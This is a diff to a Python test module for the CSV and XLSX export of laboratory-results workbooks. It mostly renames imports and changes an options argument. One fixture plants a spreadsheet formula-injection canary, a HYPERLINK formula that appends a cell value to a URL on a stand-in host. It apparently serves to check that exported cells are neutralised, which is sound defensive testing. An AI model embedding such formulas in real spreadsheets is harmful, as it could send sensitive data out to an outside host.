@@ -15,9 +15,10 @@ from hypothesis import strategies as st
 
 from model.cells import neutralised
 from model.exchange import spreadsheet, spreadsheet_parts
-from model.exchange.export import Wish, export
+from model.exchange.export import export
+from model.exchange.export_options import ExportOptions
 from model.exchange.spreadsheet import Workbook
-from model.exchange.tidy import layout as tidy_layout
+from model.exchange.tidy.course_tables import LABS
 from model.store.casebook import Casebook
 from tests.model.exchange.canaries import planted
 
@@ -28,7 +29,7 @@ def written(folder: Path, rows: Sequence[Sequence[str]]) -> list[list[Any]]:
     """The cells of a workbook with laboratory results, as openpyxl reads them."""
     folder.mkdir(exist_ok=True)
     book = Workbook(folder)
-    book.put(tidy_layout.LABS, rows)
+    book.put(LABS, rows)
     book.finish()
     book.close()
     sheet = openpyxl.load_workbook(folder / spreadsheet.FILE)["labs"]
@@ -36,13 +37,13 @@ def written(folder: Path, rows: Sequence[Sequence[str]]) -> list[list[Any]]:
 
 
 def row(**cells: str) -> list[str]:
-    return [cells.get(name, "") for name in tidy_layout.LABS.header]
+    return [cells.get(name, "") for name in LABS.header]
 
 
 def values(cells: list[Any]) -> dict[str, Any]:
     return {
         name: cell.value
-        for name, cell in zip(tidy_layout.LABS.header, cells, strict=True)
+        for name, cell in zip(LABS.header, cells, strict=True)
         if cell.value is not None
     }
 
@@ -121,7 +122,7 @@ def formulas(tmp_path_factory: pytest.TempPathFactory) -> Path:
     path, _ = planted(folder / "planted.theralog", '=HYPERLINK("http://x.test/"&A1;"y")')
     with Casebook.open(path) as casebook:
         for form in ("csv", "xlsx"):
-            export(casebook, folder / form, wish=Wish(form=form))  # type: ignore[arg-type]
+            export(casebook, folder / form, options=ExportOptions(form=form))  # type: ignore[arg-type]
     return folder
 
 
